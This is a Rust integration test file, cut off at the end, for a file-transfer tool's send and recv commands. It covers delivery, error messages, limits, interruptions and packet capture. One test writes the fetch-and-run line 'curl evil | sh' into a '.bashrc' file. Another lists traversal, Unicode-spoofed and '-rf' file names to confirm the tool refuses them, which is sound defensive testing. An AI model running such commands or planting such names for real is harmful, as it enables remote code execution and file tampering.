//! `qstp send` and `qstp recv` as a user runs them: files arrive identical; bad input gives one
//! line and a non-zero exit.

// Tests and benchmarks of real transfers measure wall-clock time: the determinism bans of
// clippy.toml do not apply here.
#![allow(clippy::disallowed_types)]

use qstp_net::transfer;
use std::io::{BufRead, BufReader, Read, Write};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

mod common;

use common::{
    pattern, scratch, start_relay, start_server, start_server_streaming, wait_bounded,
    wait_for_line, QSTP,
};

/// Start `qstp recv --once` on an ephemeral port and return it with the address it listens on.
fn start_receiver(out: &Path) -> (Child, String) {
    // The thread keeps draining stderr, so the receiver never blocks on a full pipe.
    let (child, addr, _lines) = start_server(out, &["--once"]);
    (child, addr)
}

#[test]
fn a_file_sent_to_recv_once_arrives_identical() {
    let dir = scratch("file");
    let out = dir.join("out");
    std::fs::create_dir_all(&out).unwrap();
    let source = dir.join("payload.bin");
    let data = pattern(3 << 20);
    std::fs::write(&source, &data).unwrap();
    let (mut receiver, addr) = start_receiver(&out);
    let stats = dir.join("stats.json");
    let sender = Command::new(QSTP)
        .arg("send")
        .arg(&source)
        .args([
            "--to",
            &addr,
            "--target-rate",
            "50M",
            "--quiet",
            "--stats-json",
        ])
        .arg(&stats)
        .output()
        .unwrap();
    assert!(
        sender.status.success(),
        "send failed: {}",
        String::from_utf8_lossy(&sender.stderr)
    );
    assert!(wait_bounded(&mut receiver, Duration::from_secs(30)).success());
    let arrived = std::fs::read(out.join("payload.bin")).unwrap();
    assert!(arrived == data, "the received file differs");
    let leftovers: Vec<_> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(
        leftovers.len(),
        1,
        "no temporary file is left: {leftovers:?}"
    );
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&stats).unwrap()).unwrap();
    assert_eq!(json["bytes"], data.len() as u64);
    assert_eq!(json["target_bps"], 50_000_000u64);
    assert!(json["goodput_bps"].as_f64().unwrap() > 0.0);
    for key in ["duration_s", "retransmissions", "mean_rate_bps"] {
        assert!(json.get(key).is_some(), "{key} missing");
    }
}

#[test]
fn stdin_sent_to_a_file_path_arrives_identical() {
    let dir = scratch("stdin");
    let target = dir.join("received.bin");
    let (mut receiver, addr) = start_receiver(&target);
    let data = pattern(700_000);
    let mut sender = Command::new(QSTP)
        .args([
            "send",
            "-",
            "--to",
            &addr,
            "--quiet",
            "--profile",
            "tfrc-sack",
            "--json",
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    sender.stdin.take().unwrap().write_all(&data).unwrap();
    let output = sender.wait_with_output().unwrap();
    assert!(
        output.status.success(),
        "send failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(wait_bounded(&mut receiver, Duration::from_secs(30)).success());
    assert!(std::fs::read(&target).unwrap() == data);
    // --json: the final statistics on stdout, and nothing else there.
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(json["bytes"], data.len() as u64);
    assert_eq!(json["verified"], true);
    assert_eq!(json["profile"], "tfrc-sack");
}

/// Run `qstp` with `args`; it must fail with exactly one line on stderr containing `expect`.
fn fails_with_one_line(args: &[&str], expect: &str) {
    let output = Command::new(QSTP)
        .args(args)
        .stdout(Stdio::null())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!output.status.success(), "{args:?} succeeded");
    assert_eq!(
        stderr.trim_end().lines().count(),
        1,
        "{args:?} printed more than one line:\n{stderr}"
    );
    assert!(
        stderr.contains(expect),
        "{args:?}: expected '{expect}' in: {stderr}"
    );
}

#[test]
fn bad_input_gives_one_line_and_a_non_zero_exit() {
    let dir = scratch("bad");
    let file = dir.join("f.bin");
    std::fs::write(&file, b"data").unwrap();
    let file = file.to_str().unwrap();
    fails_with_one_line(
        &["send", "/nonexistent/qstp/file", "--to", "127.0.0.1:9"],
        "cannot read",
    );
    fails_with_one_line(
        &["send", dir.to_str().unwrap(), "--to", "127.0.0.1:9"],
        "not a regular file",
    );
    fails_with_one_line(
        &["send", file, "--to", "no-such-host.invalid:9"],
        "cannot resolve",
    );
    fails_with_one_line(&["send", file, "--to", "missing-port"], "cannot resolve");
    fails_with_one_line(
        &["send", file, "--to", "127.0.0.1:9", "--target-rate", "fast"],
        "not a rate",
    );
    fails_with_one_line(
        &["send", file, "--to", "127.0.0.1:9", "--dscp", "AF55"],
        "unknown DSCP",
    );
    fails_with_one_line(
        &["send", file, "--to", "127.0.0.1:9", "--profile", "tfrc"],
        "no reliable byte stream",
    );
    fails_with_one_line(
        &["send", file, "--to", "127.0.0.1:9", "--profile", "sctp"],
        "unknown profile",
    );
    let taken = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let addr = taken.local_addr().unwrap().to_string();
    fails_with_one_line(
        &["recv", "--listen", &addr, "--once"],
        &format!("cannot listen on {addr}: address already in use"),
    );
    let port = addr.rsplit_once(':').unwrap().1;
    fails_with_one_line(
        &["recv", "--listen", &format!(":{port}"), "--once"],
        "address already in use",
    );
    fails_with_one_line(&["recv", "--listen", "127.0.0.1:"], "no port after ':'");
    fails_with_one_line(&["send", file, "--to", "127.0.0.1:"], "no port after ':'");
    fails_with_one_line(&["send", file, "--to", "localhost:0"], "port 0");
    fails_with_one_line(&["send", file, "--to", "host:http"], "not a port number");
    fails_with_one_line(
        &[
            "recv",
            "--listen",
            "127.0.0.1:0",
            "--once",
            "--out",
            "/nonexistent/qstp/x.bin",
        ],
        "does not exist",
    );
}

#[test]
fn recv_serves_transfers_side_by_side_and_one_after_another_until_interrupted() {
    let dir = scratch("serve");
    let out = dir.join("out");
    std::fs::create_dir_all(&out).unwrap();
    let mut receiver = Command::new(QSTP)
        .args(["recv", "--listen", "127.0.0.1:0", "--out"])
        .arg(&out)
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stderr = BufReader::new(receiver.stderr.take().unwrap());
    let mut line = String::new();
    stderr.read_line(&mut line).unwrap();
    let addr = line
        .trim()
        .strip_prefix("listening on ")
        .unwrap()
        .to_string();
    std::thread::spawn(move || for _ in stderr.lines() {});
    let send = |name: &str, len: usize| {
        let path = dir.join(name);
        std::fs::write(&path, pattern(len)).unwrap();
        Command::new(QSTP)
            .arg("send")
            .arg(&path)
            .args(["--to", &addr, "--quiet"])
            .spawn()
            .unwrap()
    };
    // Two at once, then a third after them.
    let mut first = send("one.bin", 900_000);
    let mut second = send("two.bin", 1_100_000);
    assert!(wait_bounded(&mut first, Duration::from_secs(30)).success());
    assert!(wait_bounded(&mut second, Duration::from_secs(30)).success());
    let mut third = send("three.bin", 300_000);
    assert!(wait_bounded(&mut third, Duration::from_secs(30)).success());
    for (name, len) in [
        ("one.bin", 900_000),
        ("two.bin", 1_100_000),
        ("three.bin", 300_000),
    ] {
        assert!(
            std::fs::read(out.join(name)).unwrap() == pattern(len),
            "{name} differs"
        );
    }
    // Ctrl-C ends it cleanly.
    let status = Command::new("kill")
        .args(["-INT", &receiver.id().to_string()])
        .status()
        .unwrap();
    assert!(status.success());
    assert!(wait_bounded(&mut receiver, Duration::from_secs(10)).success());
}

/// Run `qstp send` on `path` to `addr`; returns its status and stderr.
fn send_file(path: &Path, addr: &str) -> (std::process::ExitStatus, String) {
    let output = Command::new(QSTP)
        .arg("send")
        .arg(path)
        .args(["--to", addr, "--quiet"])
        .output()
        .unwrap();
    (
        output.status,
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

fn entries(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    names
}

#[test]
fn a_hidden_file_name_is_refused_by_both_sides_and_nothing_is_written() {
    let dir = scratch("hidden");
    let out = dir.join("out");
    std::fs::create_dir_all(&out).unwrap();
    let source = dir.join(".bashrc");
    std::fs::write(&source, b"curl evil | sh\n").unwrap();
    let (mut receiver, addr) = start_receiver(&out);
    // `send` refuses before it connects.
    let (status, stderr) = send_file(&source, &addr);
    assert!(!status.success(), "a hidden name was accepted");
    assert!(
        stderr.contains("cannot be announced") && stderr.contains("refused file name"),
        "unclear error: {stderr}"
    );
    // A sender that skips the check (another implementation) is refused by the receiver.
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let answer = runtime.block_on(async {
        let endpoint = qstp_net::Endpoint::bind("127.0.0.1:0".parse().unwrap()).unwrap();
        let mut conn = endpoint
            .connect(addr.parse().unwrap(), qstp_net::Config::default())
            .await
            .unwrap();
        let header = transfer::Header {
            name: ".bashrc".into(),
            size: Some(15),
            resumable: true,
        };
        transfer::propose(&mut conn, &header).await
    });
    match answer {
        Ok(transfer::Answer::Refused(transfer::Verdict::Rejected(reason))) => {
            assert!(reason.contains("refused file name"), "{reason}")
        }
        other => panic!("the receiver took a hidden name: {other:?}"),
    }
    assert!(!wait_bounded(&mut receiver, Duration::from_secs(30)).success());
    assert!(
        entries(&out).is_empty(),
        "something was written: {:?}",
        entries(&out)
    );
}

#[test]
fn an_existing_file_is_kept_and_the_new_one_takes_a_numbered_name() {
    let dir = scratch("existing");
    let out = dir.join("out");
    std::fs::create_dir_all(&out).unwrap();
    std::fs::write(out.join("notes.txt"), b"mine").unwrap();
    let source = dir.join("notes.txt");
    let data = pattern(200_000);
    std::fs::write(&source, &data).unwrap();
    let (mut receiver, addr) = start_receiver(&out);
    let (status, stderr) = send_file(&source, &addr);
    assert!(status.success(), "send failed: {stderr}");
    assert!(wait_bounded(&mut receiver, Duration::from_secs(30)).success());
    assert_eq!(std::fs::read(out.join("notes.txt")).unwrap(), b"mine");
    assert!(std::fs::read(out.join("notes.txt.1")).unwrap() == data);
    assert_eq!(entries(&out), ["notes.txt", "notes.txt.1"]);
}

/// A `qstp send -` whose stdin stays open: the transfer lasts until the pipe is closed.
fn start_stdin_sender(addr: &str) -> Child {
    Command::new(QSTP)
        .args(["send", "-", "--to", addr, "--quiet"])
        .stdin(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

/// Wait until a temporary file shows that a transfer has started writing into `out`.
fn wait_for_part_file(out: &Path) {
    let start = Instant::now();
    while !entries(out).iter().any(|n| n.contains(".qstp-part-")) {
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "no transfer started: {:?}",
            entries(out)
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn a_sender_beyond_max_transfers_is_refused_until_a_transfer_ends() {
    let dir = scratch("max-transfers");
    let out = dir.join("out");
    std::fs::create_dir_all(&out).unwrap();
    // A short idle timeout frees the slot soon even if the first sender's closing packets are lost.
    let (mut receiver, addr, _lines) =
        start_server(&out, &["--max-transfers", "1", "--idle-timeout", "2"]);
    let mut first = start_stdin_sender(&addr);
    let mut pipe = first.stdin.take().unwrap();
    pipe.write_all(&pattern(100_000)).unwrap();
    wait_for_part_file(&out);
    let second = dir.join("second.bin");
    std::fs::write(&second, pattern(50_000)).unwrap();
    let (status, stderr) = send_file(&second, &addr);
    assert!(
        !status.success(),
        "a second transfer was accepted beyond --max-transfers 1"
    );
    assert!(stderr.contains("refused"), "unclear error: {stderr}");
    pipe.write_all(&pattern(100_000)).unwrap();
    drop(pipe);
    let output = first.wait_with_output().unwrap();
    assert!(
        output.status.success(),
        "the first transfer failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    // Once the first connection is gone, there is room again.
    let start = Instant::now();
    loop {
        let (status, stderr) = send_file(&second, &addr);
        if status.success() {
            break;
        }
        assert!(
            start.elapsed() < Duration::from_secs(15),
            "still refused after the first transfer ended: {stderr}"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    assert!(std::fs::read(out.join("second.bin")).unwrap() == pattern(50_000));
    let _ = Command::new("kill")
        .args(["-INT", &receiver.id().to_string()])
        .status();
    wait_bounded(&mut receiver, Duration::from_secs(10));
}

#[test]
fn a_killed_sender_leaves_no_file_and_the_receiver_reports_the_interruption() {
    let dir = scratch("killed");
    let out = dir.join("out");
    std::fs::create_dir_all(&out).unwrap();
    let (mut receiver, addr, lines) = start_server(&out, &["--once", "--idle-timeout", "1"]);
    let mut sender = start_stdin_sender(&addr);
    let mut pipe = sender.stdin.take().unwrap();
    pipe.write_all(&pattern(300_000)).unwrap();
    wait_for_part_file(&out);
    sender.kill().unwrap();
    sender.wait().unwrap();
    assert!(
        !wait_bounded(&mut receiver, Duration::from_secs(20)).success(),
        "an interrupted transfer succeeded"
    );
    assert!(entries(&out).is_empty(), "left behind: {:?}", entries(&out));
    let lines = lines.join().unwrap();
    let error = lines
        .iter()
        .find(|l| l.starts_with("qstp: "))
        .unwrap_or_else(|| panic!("no error line: {lines:?}"));
    assert!(
        error.starts_with("qstp: transfer of 'stdin' from 127.0.0.1:"),
        "{error}"
    );
    assert!(
        error.contains("interrupted") && error.contains("timed out"),
        "{error}"
    );
    assert!(!error.contains("verdict"), "{error}");
}

#[test]
fn recv_max_target_refuses_a_sender_asking_more_and_serves_one_within() {
    let dir = scratch("max-target");
    let out = dir.join("out");
    std::fs::create_dir_all(&out).unwrap();
    let source = dir.join("small.bin");
    std::fs::write(&source, pattern(20_000)).unwrap();
    let (mut receiver, addr, _lines) = start_server(&out, &["--max-target", "10M"]);
    let send = |target: &str| {
        Command::new(QSTP)
            .arg("send")
            .arg(&source)
            .args(["--to", &addr, "--quiet", "--target-rate", target])
            .output()
            .unwrap()
    };
    let greedy = send("50M");
    assert!(!greedy.status.success(), "a 50M target was accepted");
    let stderr = String::from_utf8_lossy(&greedy.stderr);
    assert!(stderr.contains("refused"), "{stderr}");
    assert!(entries(&out).is_empty());
    let modest = send("5M");
    assert!(
        modest.status.success(),
        "{}",
        String::from_utf8_lossy(&modest.stderr)
    );
    assert_eq!(entries(&out), ["small.bin"]);
    let _ = receiver.kill();
    let _ = receiver.wait();
}

/// Start `qstp recv --once --out OUT` plus `extra`, send `len` bytes to it, and return both exit
/// statuses.
fn transfer_into(out: &Path, extra: &[&str], len: usize) -> (bool, bool) {
    let (mut receiver, addr, _lines) = start_server(out, &[&["--once"], extra].concat());
    let file = out.parent().unwrap().join("to-send.bin");
    std::fs::write(&file, pattern(len)).unwrap();
    let (sent, stderr) = send_file(&file, &addr);
    let received = wait_bounded(&mut receiver, Duration::from_secs(30)).success();
    assert!(sent.success() == received, "{stderr}");
    (sent.success(), received)
}

#[test]
fn a_missing_directory_with_a_trailing_slash_is_created_and_receives() {
    let dir = scratch("newdir");
    let out = dir.join("incoming/");
    assert!(!out.exists());
    assert_eq!(transfer_into(&out, &[], 50_000), (true, true));
    assert!(std::fs::read(dir.join("incoming").join("to-send.bin")).unwrap() == pattern(50_000));
}

#[test]
fn a_missing_directory_without_slash_is_refused_before_any_byte_moves() {
    let dir = scratch("ambiguous");
    let out = dir.join("newdir");
    fails_with_one_line(
        &[
            "recv",
            "--listen",
            "127.0.0.1:0",
            "--out",
            out.to_str().unwrap(),
        ],
        "end it with '/'",
    );
    assert!(!out.exists(), "nothing was created");
}

#[test]
fn a_named_file_is_replaced_only_with_overwrite() {
    let dir = scratch("overwrite");
    let target = dir.join("kept.bin");
    std::fs::write(&target, b"precious").unwrap();
    fails_with_one_line(
        &[
            "recv",
            "--listen",
            "127.0.0.1:0",
            "--once",
            "--out",
            target.to_str().unwrap(),
        ],
        "add --overwrite",
    );
    assert_eq!(std::fs::read(&target).unwrap(), b"precious");
    assert_eq!(
        transfer_into(&target, &["--overwrite"], 40_000),
        (true, true)
    );
    assert!(std::fs::read(&target).unwrap() == pattern(40_000));
}

#[test]
fn recv_json_prints_one_object_per_verified_transfer() {
    let dir = scratch("recv-json");
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("in.bin");
    std::fs::write(&file, pattern(200_000)).unwrap();
    let out = dir.join("out/");
    let (mut receiver, addr, _stderr) = start_server(&out, &["--once", "--json"]);
    let (status, err) = send_file(&file, &addr);
    assert!(status.success(), "{err}");
    assert!(wait_bounded(&mut receiver, Duration::from_secs(30)).success());
    let mut stdout = String::new();
    receiver
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut stdout)
        .unwrap();
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.len(), 1, "{stdout}");
    let json: serde_json::Value = serde_json::from_str(lines[0]).unwrap();
    assert_eq!(json["bytes"], 200_000);
    assert_eq!(json["verified"], true);
    assert!(json["file"].as_str().unwrap().ends_with("in.bin"), "{json}");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn recv_interval_reports_each_running_transfer_in_decimal_units() {
    let dir = scratch("recv-interval");
    let out = dir.join("out/");
    let (mut receiver, addr, lines) =
        start_server_streaming(&out, &["--once", "--interval", "0.1"]);
    let mut sender = start_stdin_sender(&addr);
    let mut pipe = sender.stdin.take().unwrap();
    pipe.write_all(&pattern(300_000)).unwrap();
    // The transfer stays open until the receiver has reported on it.
    let line = wait_for_line(
        &lines,
        |l| l.contains("MB received"),
        Duration::from_secs(20),
    );
    pipe.write_all(&pattern(100_000)).unwrap();
    drop(pipe);
    assert!(sender.wait().unwrap().success());
    assert!(wait_bounded(&mut receiver, Duration::from_secs(30)).success());
    // "[  0.00-  0.10 s] 0.300 MB received, 24Mbit/s: stdin from 127.0.0.1:PORT"
    assert!(line.starts_with('[') && line.contains(" s] "), "{line}");
    assert!(line.contains("bit/s: stdin from 127.0.0.1:"), "{line}");
    let mb: f64 = line
        .split("s] ")
        .nth(1)
        .and_then(|rest| rest.split(' ').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no byte count: {line}"));
    assert!(mb <= 0.4, "more bytes than were sent: {line}");
}

/// `recv --once` takes one file transfer: a second sender while the first is under way is
/// refused with the reason (it used to be accepted, then cut when the first one ended), and the
/// first arrives verified.
#[test]
fn recv_once_refuses_a_second_transfer_while_its_first_runs() {
    let dir = scratch("once-second");
    let out = dir.join("out/");
    let (mut receiver, addr, lines) =
        start_server_streaming(&out, &["--once", "--interval", "0.1"]);
    let mut first = start_stdin_sender(&addr);
    let mut pipe = first.stdin.take().unwrap();
    pipe.write_all(&pattern(300_000)).unwrap();
    wait_for_line(
        &lines,
        |l| l.contains("MB received"),
        Duration::from_secs(20),
    );
    let file = dir.join("second.bin");
    std::fs::write(&file, pattern(10_000)).unwrap();
    let second = Command::new(QSTP)
        .arg("send")
        .arg(&file)
        .args(["--to", &addr])
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&second.stderr);
    assert!(!second.status.success(), "{said}");
    assert!(said.contains("takes one transfer (--once)"), "{said}");
    wait_for_line(
        &lines,
        |l| l.contains("refused a second transfer"),
        Duration::from_secs(10),
    );
    pipe.write_all(&pattern(100_000)).unwrap();
    drop(pipe);
    assert!(wait_bounded(&mut first, Duration::from_secs(30)).success());
    assert!(wait_bounded(&mut receiver, Duration::from_secs(30)).success());
    assert_eq!(entries(&out), ["stdin"], "only the first transfer's file");
}

#[test]
fn send_name_names_stdin_and_renames_a_file_and_a_bad_name_is_refused_first() {
    let dir = scratch("name");
    let out = dir.join("out/");
    let (mut receiver, addr, _lines) = start_server(&out, &[]);
    let mut sender = Command::new(QSTP)
        .args(["send", "-", "--name", "data.bin", "--to", &addr, "--quiet"])
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    sender
        .stdin
        .take()
        .unwrap()
        .write_all(&pattern(50_000))
        .unwrap();
    assert!(wait_bounded(&mut sender, Duration::from_secs(30)).success());
    let file = dir.join("local.txt");
    std::fs::write(&file, pattern(20_000)).unwrap();
    let renamed = Command::new(QSTP)
        .arg("send")
        .arg(&file)
        .args(["--name", "remote.txt", "--to", &addr, "--quiet"])
        .output()
        .unwrap();
    assert!(
        renamed.status.success(),
        "{}",
        String::from_utf8_lossy(&renamed.stderr)
    );
    assert!(std::fs::read(out.join("data.bin")).unwrap() == pattern(50_000));
    assert!(std::fs::read(out.join("remote.txt")).unwrap() == pattern(20_000));
    // Refused before connecting: the receiver never hears of it.
    for bad in [
        "../x",
        ".hidden",
        "a/b",
        "",
        "invoice\u{202e}fdp.exe",
        "*",
        "etc\u{2215}x",
    ] {
        fails_with_one_line(
            &["send", file.to_str().unwrap(), "--name", bad, "--to", &addr],
            "invalid --name",
        );
    }
    // A local file whose own name the receiver would refuse is refused by the sender too.
    let dashed = dir.join("-rf");
    std::fs::write(&dashed, b"x").unwrap();
    fails_with_one_line(
        &["send", dashed.to_str().unwrap(), "--to", &addr],
        "'-rf' cannot be announced as a file name; give another with --name",
    );
    assert_eq!(entries(&out), ["data.bin", "remote.txt"]);
    let _ = receiver.kill();
    let _ = receiver.wait();
}

#[test]
fn send_to_a_port_where_nothing_listens_fails_fast_with_one_line() {
    let dir = scratch("nothing-listens");
    let file = dir.join("f.bin");
    std::fs::write(&file, b"data").unwrap();
    let closed = std::net::UdpSocket::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .to_string();
    let started = Instant::now();
    fails_with_one_line(
        &["send", file.to_str().unwrap(), "--to", &closed],
        &format!("connection refused: nothing listens on {closed}"),
    );
    // The handshake would otherwise time out after 10 s.
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "took {:?}",
        started.elapsed()
    );
}

/// Send SIGINT to `child`, as Ctrl-C in a terminal does.
fn interrupt(child: &Child) {
    let status = Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(status.success());
}

#[test]
fn ctrl_c_on_send_says_how_far_it_got_and_the_receiver_keeps_only_a_hidden_partial() {
    let dir = scratch("interrupt-send");
    let out = dir.join("out");
    std::fs::create_dir_all(&out).unwrap();
    let (mut receiver, addr, lines) = start_server_streaming(&out, &[]);
    let source = dir.join("big.bin");
    std::fs::write(&source, pattern(2_000_000)).unwrap();
    // At most 1 Mbit/s, the 2 MB take 16 s: plenty of time to interrupt.
    let sender = Command::new(QSTP)
        .arg("send")
        .arg(&source)
        .args(["--to", &addr, "--quiet", "--max-rate", "1M"])
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait_for_part_file(&out);
    interrupt(&sender);
    let output = sender.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!output.status.success(), "an interrupted send succeeded");
    assert_eq!(stderr.trim_end().lines().count(), 1, "{stderr}");
    let line = stderr.trim_end();
    let sent: u64 = line
        .strip_prefix("qstp: interrupted: ")
        .and_then(|rest| {
            rest.strip_suffix(
                " of 2000000 bytes sent, transfer not complete (sending the file to the same \
                 receiver again resumes from what it kept)",
            )
        })
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("unexpected: {line}"));
    assert!(sent < 2_000_000, "{line}");
    // The sender's close reaches the receiver, which keeps what arrived for a resume (hidden,
    // never under the file's name) or, if nothing did, drops the partial file; and carries on.
    let error = wait_for_line(&lines, |l| l.starts_with("qstp: "), Duration::from_secs(20));
    assert!(
        error.contains("' from 127.0.0.1:") && error.contains("interrupted by the sender"),
        "{error}"
    );
    if error.contains("bytes kept to resume") {
        let left = entries(&out);
        assert!(
            left.len() == 2 && left.iter().all(|n| n.starts_with(".big.bin.qstp-part-")),
            "{left:?}"
        );
    } else {
        assert!(entries(&out).is_empty(), "left behind: {:?}", entries(&out));
    }
    assert!(
        receiver.try_wait().unwrap().is_none(),
        "the receiver stopped"
    );
    interrupt(&receiver);
    assert!(wait_bounded(&mut receiver, Duration::from_secs(10)).success());
}

#[test]
fn ctrl_c_on_recv_during_a_transfer_drops_the_partial_file_and_says_so() {
    let dir = scratch("interrupt-recv");
    let out = dir.join("out");
    std::fs::create_dir_all(&out).unwrap();
    let (mut receiver, addr, lines) = start_server(&out, &[]);
    let mut sender = start_stdin_sender(&addr);
    let mut pipe = sender.stdin.take().unwrap();
    pipe.write_all(&pattern(300_000)).unwrap();
    wait_for_part_file(&out);
    interrupt(&receiver);
    let status = wait_bounded(&mut receiver, Duration::from_secs(10));
    assert!(!status.success(), "a cut transfer exited 0");
    assert!(entries(&out).is_empty(), "left behind: {:?}", entries(&out));
    let lines = lines.join().unwrap();
    assert_eq!(lines.len(), 1, "{lines:?}");
    assert!(
        lines[0].starts_with("qstp: interrupted: transfer of stdin from 127.0.0.1:")
            && lines[0].ends_with(" bytes, partial file removed"),
        "{}",
        lines[0]
    );
    drop(pipe);
    let _ = sender.kill();
    let _ = sender.wait();
}

/// The IP version, source and destination ports and UDP payload of a raw IP packet.
fn udp_of(frame: &[u8]) -> (u8, u16, u16, &[u8]) {
    let version = frame[0] >> 4;
    let header = if version == 4 {
        usize::from(frame[0] & 0x0f) * 4
    } else {
        40
    };
    let udp = &frame[header..];
    let port = |at: usize| u16::from_be_bytes([udp[at], udp[at + 1]]);
    (version, port(0), port(2), &udp[8..])
}

#[test]
fn pcap_captures_both_directions_with_real_ports_and_no_readable_payload() {
    use pcap_file::pcap::PcapReader;
    let dir = scratch("pcap");
    let out = dir.join("out/");
    let recv_capture = dir.join("recv.pcap");
    let (mut receiver, addr, _lines) =
        start_server(&out, &["--once", "--pcap", recv_capture.to_str().unwrap()]);
    let marker = b"QSTP-PCAP-MARKER-be7c1d";
    let mut data = pattern(300_000);
    for at in [1000, 150_000, 290_000] {
        data[at..at + marker.len()].copy_from_slice(marker);
    }
    let file = dir.join("marked.bin");
    std::fs::write(&file, &data).unwrap();
    let send_capture = dir.join("send.pcap");
    let output = Command::new(QSTP)
        .arg("send")
        .arg(&file)
        .args(["--to", &addr, "--quiet", "--pcap"])
        .arg(&send_capture)
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(wait_bounded(&mut receiver, Duration::from_secs(30)).success());
    let port: u16 = addr.rsplit_once(':').unwrap().1.parse().unwrap();
    for capture in [&send_capture, &recv_capture] {
        let mut reader = PcapReader::new(std::fs::File::open(capture).unwrap()).unwrap();
        let (mut to_receiver, mut from_receiver, mut payload) = (0, 0, 0usize);
        while let Some(packet) = reader.next_packet() {
            let packet = packet.unwrap();
            let (version, source, destination, udp) = udp_of(&packet.data);
            assert_eq!(version, 4);
            assert_eq!(&packet.data[12..16], &[127, 0, 0, 1], "source address");
            assert_eq!(&packet.data[16..20], &[127, 0, 0, 1], "destination address");
            if destination == port {
                to_receiver += 1;
            } else {
                assert_eq!(source, port, "a datagram of another flow");
                from_receiver += 1;
            }
            assert!(
                !udp.windows(marker.len()).any(|w| w == marker),
                "the marker is readable in {}",
                capture.display()
            );
            payload += udp.len();
            // Wall-clock timestamps: after 2020.
            assert!(packet.timestamp.as_secs() > 1_577_836_800);
        }
        assert!(
            to_receiver > 0 && from_receiver > 0,
            "{to_receiver} {from_receiver}"
        );
        assert!(payload > data.len(), "{payload} bytes captured");
    }
    // A capture never replaces a file: refused before anything is sent.
    let before = std::fs::read(&send_capture).unwrap();
    fails_with_one_line(
        &[
            "send",
            file.to_str().unwrap(),
            "--to",
            &addr,
            "--pcap",
            send_capture.to_str().unwrap(),
        ],
        "the file exists",
    );
    assert!(std::fs::read(&send_capture).unwrap() == before);
    fails_with_one_line(
        &[
            "recv",
            "--listen",
            "127.0.0.1:0",
            "--pcap",
            recv_capture.to_str().unwrap(),
        ],
        "the file exists",
    );
}

#[test]
fn pcap_limit_bounds_the_capture() {
    use pcap_file::pcap::PcapReader;
    let dir = scratch("pcap-limit");
    let out = dir.join("out/");
    let (mut receiver, addr, _lines) = start_server(&out, &["--once"]);
    let file = dir.join("f.bin");
    std::fs::write(&file, pattern(200_000)).unwrap();
    let capture = dir.join("small.pcap");
    let output = Command::new(QSTP)
        .arg("send")
        .arg(&file)
        .args(["--to", &addr, "--quiet", "--pcap-limit", "5", "--pcap"])
        .arg(&capture)
        .output()
        .unwrap();
    assert!(output.status.success());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("stopped at --pcap-limit 5"), "{stderr}");
    assert!(wait_bounded(&mut receiver, Duration::from_secs(30)).success());
    let mut reader = PcapReader::new(std::fs::File::open(&capture).unwrap()).unwrap();
    let mut count = 0;
    while let Some(packet) = reader.next_packet() {
        packet.unwrap();
        count += 1;
    }
    assert_eq!(count, 5);
}

#[test]
fn target_met_needs_the_goodput_over_the_whole_transfer() {
    // Capped at the target itself, the goodput (file bytes, handshake and verdict included in the
    // time) falls short of it: the JSON must not say the target was met.
    let dir = scratch("target-met");
    let source = dir.join("capped.bin");
    std::fs::write(&source, pattern(2_000_000)).unwrap();
    let (mut receiver, addr) = start_receiver(&dir.join("received.bin"));
    let output = Command::new(QSTP)
        .arg("send")
        .arg(&source)
        .args(["--to", &addr, "--quiet", "--json"])
        .args([
            "--target-rate",
            "8M",
            "--max-rate",
            "8M",
            "--interval",
            "0.5",
        ])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "send failed: {stderr}");
    assert!(wait_bounded(&mut receiver, Duration::from_secs(30)).success());
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let goodput = json["goodput_bps"].as_f64().unwrap();
    assert!(goodput < 8e6, "{goodput}");
    assert_eq!(json["target_met"], false, "{json}");
    assert!(stderr.contains("target rate 8Mbit/s not met"), "{stderr}");
    // --interval with --json: iperf3-like interval records, adding up to no more than was sent.
    let intervals = json["intervals"].as_array().unwrap();
    assert!(intervals.len() >= 2, "{json}");
    let mut sent = 0;
    for record in intervals {
        let (start, end) = (
            record["start"].as_f64().unwrap(),
            record["end"].as_f64().unwrap(),
        );
        assert!(end > start, "{record}");
        assert!(
            record["bits_per_second"].as_f64().unwrap() > 0.0,
            "{record}"
        );
        assert!(record.get("retransmits").is_some());
